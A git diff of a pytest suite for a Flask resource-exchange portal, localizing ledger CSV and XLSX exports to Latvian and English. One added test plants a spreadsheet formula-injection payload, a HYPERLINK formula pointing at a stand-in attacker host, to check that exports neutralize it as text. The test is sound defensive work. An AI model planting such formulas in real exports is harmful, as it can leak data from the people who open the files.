@@ -9,12 +9,13 @@ from decimal import Decimal
 import pytest
 from babel.dates import format_date as babel_format_date
 from babel.numbers import format_currency
-from flask_babel import format_date, gettext
+from flask_babel import gettext
 from icalendar import Calendar
 from sqlalchemy import delete, func, select
 
 from portal.accounts.models import REPRESENTATIVE
 from portal.audit.models import AuditEvent
+from portal.dates import format_day
 from portal.errors import NotAllowed, RuleViolation
 from portal.exchanges import services
 from portal.exchanges.models import (ACCEPTED, CANCELLED, COMPLETED, DECLINED, REQUESTED, WITHDRAWN,
@@ -86,7 +87,7 @@ def iso(day: date) -> str:
 
 
 def en_date(day: date) -> str:
-    return babel_format_date(day, format="medium", locale="en")
+    return babel_format_date(day, format="d MMM y", locale="en")  # day first: "1 Dec 2026"
 
 
 def flashes(html: str, category: str) -> list[str]:
@@ -351,7 +352,7 @@ def test_complete_only_on_or_after_the_last_day(world, hall):
     exchange = in_state(world, hall, ACCEPTED)
     for today in (DAY0, START, END - timedelta(days=1)):
         refused = assert_refused_without_trace(RuleViolation, "complete", world.representative, exchange, today=today)
-        assert format_date(END) in str(refused.message)
+        assert format_day(END, "medium") in str(refused.message)
     perform("complete", world.representative, exchange, today=END)
     db.session.commit()
     assert snapshot(exchange.id).state == COMPLETED
@@ -423,9 +424,9 @@ def test_capacity_clash_is_refused_naming_the_day_the_exchange_and_the_org(world
     assert services.capacity_clash(fifteen)[:2] == (d(11), 30)
     refused = assert_refused_without_trace(RuleViolation, "accept", world.representative, fifteen)
     message = str(refused.message)
-    assert format_date(d(11)) in message, message
+    assert format_day(d(11), "medium") in message, message
     assert f"#{thirty.id}" in message and "Sukrums" in message, message
-    assert format_date(d(10)) not in message.split("(")[0]  # the day named is the first clashing one
+    assert format_day(d(10), "medium") not in message.split("(")[0]  # the day named is the first clashing one
     assert snapshot(fifteen.id).state == REQUESTED
 
     services.accept(world.representative, ten, today=DAY0)  # 30 + 10 = 40 on day 11
@@ -847,28 +848,29 @@ def test_the_ledger_filters_by_period(app, world, ledger_world):
     assert "No completed exchanges in this period." in nothing
 
 
-def read_csv(response) -> list[list[str]]:
+def read_csv(response, separator=";") -> list[list[str]]:
     assert response.status_code == 200 and response.mimetype == "text/csv"
     text = response.get_data(as_text=True)
     assert text.startswith("\ufeff")  # for spreadsheet programs
-    return list(csv.reader(io.StringIO(text[1:])))
+    return list(csv.reader(io.StringIO(text[1:]), delimiter=separator))
 
 
-def test_the_ledger_exports_csv(app, world, ledger_world):
+def test_the_ledger_exports_csv_in_latvian_as_excel_expects_it_in_latvia(app, world, ledger_world):
     owner = client_for(app, world.representative)
     rows = read_csv(owner.get("/ledger.csv"))
-    assert rows[0] == ["exchange", "direction", "other_organization", "resource", "from", "to", "units",
-                       "value_eur", "completed_at"]
+    assert rows[0] == ["Nr.", "Virziens", "Otra organizācija", "Resurss", "No", "Līdz", "Vienību skaits",
+                       "Mērvienība", "Vērtība, EUR", "Pabeigta"]
     body = {row[0]: row for row in rows[1:]}
     assert len(rows) == 4 and len(body) == 3
     gave, received, later = ledger_world["gave"], ledger_world["received"], ledger_world["gave_later"]
-    assert body[str(gave.id)][:8] == [str(gave.id), "gave", "Sukrums", world.resource.title, "2025-02-10",
-                                      "2025-02-11", "2.00", "160.00"]
-    assert body[str(received.id)][:8] == [str(received.id), "received", "Sukrums",
-                                          "Skaņas aparatūra āra pasākumiem", "2025-03-05", "2025-03-05", "", "25.50"]
-    assert body[str(later.id)][1:3] == ["gave", "Daugavas krasts"] and body[str(later.id)][7] == "80.00"
-    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", row[8]) for row in rows[1:])
-    assert sum(Decimal(row[7]) for row in rows[1:] if row[1] == "gave") == Decimal("240.00")
+    assert body[str(gave.id)][:9] == [str(gave.id), "sniegts", "Sukrums", world.resource.title, "2025-02-10",
+                                      "2025-02-11", "2,00", "", "160,00"]
+    assert body[str(received.id)][:9] == [str(received.id), "saņemts", "Sukrums",
+                                          "Skaņas aparatūra āra pasākumiem", "2025-03-05", "2025-03-05", "", "",
+                                          "25,50"]
+    assert body[str(later.id)][1:3] == ["sniegts", "Daugavas krasts"] and body[str(later.id)][8] == "80,00"
+    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", row[9]) for row in rows[1:])
+    assert sum(Decimal(row[8].replace(",", ".")) for row in rows[1:] if row[1] == "sniegts") == Decimal("240.00")
 
     filtered = read_csv(owner.get("/ledger.csv?start=2025-02-01&end=2025-03-31"))
     assert sorted(row[0] for row in filtered[1:]) == sorted([str(gave.id), str(received.id)])
@@ -876,8 +878,30 @@ def test_the_ledger_exports_csv(app, world, ledger_world):
     assert empty == [rows[0]]
 
 
+def test_the_ledger_csv_in_english_uses_commas_and_decimal_points(app, world, ledger_world):
+    rows = read_csv(client_for(app, world.representative).get("/ledger.csv?lang=en"), separator=",")
+    assert rows[0] == ["No.", "Direction", "Other organization", "Resource", "From", "To", "Quantity of units",
+                       "Unit", "Value, EUR", "Completed"]
+    gave = {row[0]: row for row in rows[1:]}[str(ledger_world["gave"].id)]
+    assert gave[1] == "given" and gave[6:9] == ["2.00", "", "160.00"]
+
+
+def test_the_ledger_downloads_as_xlsx_with_numbers_and_dates(app, world, ledger_world):
+    from openpyxl import load_workbook
+
+    response = client_for(app, world.representative).get("/ledger.xlsx")
+    assert response.status_code == 200
+    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert "attachment" in response.headers["Content-Disposition"]
+    sheet = load_workbook(io.BytesIO(response.get_data())).active
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0][:3] == ("Nr.", "Virziens", "Otra organizācija")
+    gave = {row[0]: row for row in rows[1:]}[ledger_world["gave"].id]
+    assert gave[1] == "sniegts" and gave[4].date() == date(2025, 2, 10) and gave[8] == 160.0
+
+
 def test_a_zero_value_is_exported_as_zero_not_as_nothing(app, world):
-    """A free loan completed at 0 EUR: the page shows €0.00, and the CSV must say 0.00 too (an empty
+    """A free loan completed at 0 EUR: the page shows €0.00, and the CSV must say 0,00 too (an empty
     cell means "no value recorded")."""
     exchange = services.request_exchange(world.other_member, world.resource, starts_on=date(2025, 5, 6),
                                          ends_on=date(2025, 5, 6), quantity=1, hours=None, purpose="Pasākums",
@@ -888,9 +912,29 @@ def test_a_zero_value_is_exported_as_zero_not_as_nothing(app, world):
     db.session.commit()
     owner = client_for(app, world.representative)
     assert eur("0.00") in row_of(section(page(owner.get("/ledger?lang=en")), "ledger"), exchange.id)
-    rows = read_csv(owner.get("/ledger.csv"))
+    rows = read_csv(owner.get("/ledger.csv?lang=lv"))
     assert rows[1][0] == str(exchange.id)
-    assert rows[1][6:8] == ["0.00", "0.00"]
+    assert rows[1][6] == "0,00" and rows[1][8] == "0,00"
+
+
+def test_a_formula_in_a_title_reaches_the_partners_exports_as_text(app, world):
+    """Issue 11 #10: a resource titled =HYPERLINK(…) must not be a live formula in the partner's ledger."""
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://evil.example/?x","x")'
+    trap = make_resource(world.representative, title=formula, quantity=1)
+    exchange = services.request_exchange(world.other_member, trap, starts_on=date(2025, 5, 6),
+                                         ends_on=date(2025, 5, 6), quantity=1, hours=None, purpose="Pasākums",
+                                         message="", today=date(2025, 5, 1))
+    services.accept(world.representative, exchange, today=date(2025, 5, 1))
+    services.complete(world.representative, exchange, value_units=None, value_eur=Decimal("5"),
+                      today=date(2025, 5, 6))
+    db.session.commit()
+    partner = client_for(app, world.other_member)
+    rows = read_csv(partner.get("/ledger.csv"))
+    assert rows[1][3] == "'" + formula
+    cell = load_workbook(io.BytesIO(partner.get("/ledger.xlsx").get_data())).active.cell(row=2, column=4)
+    assert cell.value == formula and cell.data_type == "s" and cell.quotePrefix
 
 
 # ---------------------------------------------------------------- more about values and conditions
